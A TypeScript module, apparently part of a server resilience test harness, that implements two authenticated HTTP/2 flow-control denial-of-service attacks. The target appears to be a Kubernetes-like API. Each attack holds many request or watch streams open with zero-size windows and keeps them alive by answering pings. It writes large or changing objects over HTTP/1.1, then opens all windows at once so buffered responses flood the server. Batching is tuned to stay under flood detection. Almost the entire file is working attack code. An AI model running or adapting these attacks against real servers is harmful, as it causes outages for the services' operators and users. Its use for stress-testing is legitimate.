/** What somebody known does who lets answers wait and then takes them all at once, by name. */
import type { TLSSocket } from "node:tls";
import type { Credentials } from "../support/api-client.js";
import { type Attacker, FLAG, FRAME, frame, HTTP2_PREFACE, initialWindow, requestHeaders, windowUpdate } from "../support/attacker.js";
import { type Attack, keep, MAPS, pause } from "./attacks.js";

const CLIENT_MAGIC_BYTES = 24;
const WHOLE = FLAG.endHeaders | FLAG.endStream;
const ANSWERS = 90;
const ANSWER_BYTES = 900_000;
const WATCH_CONNECTIONS = 4;
const WATCHES = 250;
const WATCHED_MAPS = 20;
const WATCHED_BYTES = 5000;
const BETWEEN_WRITES_MS = 7;
const BETWEEN_OPENINGS_MS = 900;
/** Sent at once; a client that asks for more is taken for a flood. */
const ASKED_AT_ONCE = 25;

/** A connection whose streams are sent nothing until their windows are opened, unless `path` is answered at once; probes are answered. */
async function shutConnection(
  attacker: Attacker,
  credentials: Credentials,
  count: number,
  path: (index: number) => string,
): Promise<TLSSocket> {
  const socket = await attacker.tls("h2", credentials);
  socket.write(Buffer.concat([HTTP2_PREFACE.subarray(0, CLIENT_MAGIC_BYTES), initialWindow(0), windowUpdate(0, 0x3f000000)]));
  socket.on("data", (bytes: Buffer) => {
    for (let at = 0; at + 9 <= bytes.length; at += 9 + bytes.readUIntBE(at, 3)) {
      const isProbe = bytes[at + 3] === FRAME.ping && ((bytes[at + 4] as number) & FLAG.ack) === 0;
      if (isProbe) socket.write(frame(FRAME.ping, FLAG.ack, 0, bytes.subarray(at + 9, at + 17)));
    }
  });
  for (let from = 0; from < count; from += ASKED_AT_ONCE) {
    const asked = Array.from({ length: Math.min(ASKED_AT_ONCE, count - from) }, (_, i) =>
      frame(FRAME.headers, WHOLE, 2 * (from + i) + 1, requestHeaders("GET", path(from + i))),
    );
    socket.write(Buffer.concat(asked));
    await pause(10);
  }
  return socket;
}

/** Writes a map over a connection of HTTP/1.1. */
function put(socket: TLSSocket, name: string, bytes: number): void {
  const body = JSON.stringify({ metadata: { name }, data: { text: String(Math.random()).padEnd(bytes, "x") } });
  const head = `PUT ${MAPS}/${name} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n`;
  socket.write(head + body);
}

const longAnswers = (credentials: Credentials): Attack => {
  const work = keep(2, async (attacker) => {
    const socket = await shutConnection(attacker, credentials, ANSWERS, () => `${MAPS}/long`);
    await pause(300);
    socket.write(initialWindow(0x3fffffff));
    await pause(1000);
    socket.destroy();
  });
  return async (attacker, isOver) => {
    const writer = (await attacker.tls("http/1.1", credentials)).resume();
    put(writer, "long", ANSWER_BYTES);
    await pause(200);
    await work(attacker, isOver);
  };
};

const watches =
  (credentials: Credentials): Attack =>
  async (attacker, isOver) => {
    const writer = (await attacker.tls("http/1.1", credentials)).resume();
    const sockets: TLSSocket[] = [];
    for (let i = 0; i < WATCH_CONNECTIONS; i++) {
      const path = (index: number): string => `${MAPS}?watch=1&labelSelector=x!%3Dy${i * WATCHES + index}`;
      sockets.push(await shutConnection(attacker, credentials, WATCHES, path));
    }
    const open = setInterval(() => {
      for (const socket of sockets) {
        socket.write(
          Buffer.concat(Array.from({ length: WATCHES }, (_, i) => windowUpdate(2 * i + 1, 200_000 + Math.floor(Math.random() * 200_000)))),
        );
      }
    }, BETWEEN_OPENINGS_MS);
    for (let i = 0; !isOver(); i++) {
      put(writer, `watched-${i % WATCHED_MAPS}`, WATCHED_BYTES);
      await pause(BETWEEN_WRITES_MS);
    }
    clearInterval(open);
  };

export const WINDOW_ATTACKS: Readonly<Record<string, (credentials: Credentials) => Attack>> = {
  "somebody known: windows of 180 long answers opened at once": longAnswers,
  "somebody known: windows of 1,000 watches opened at once": watches,
};
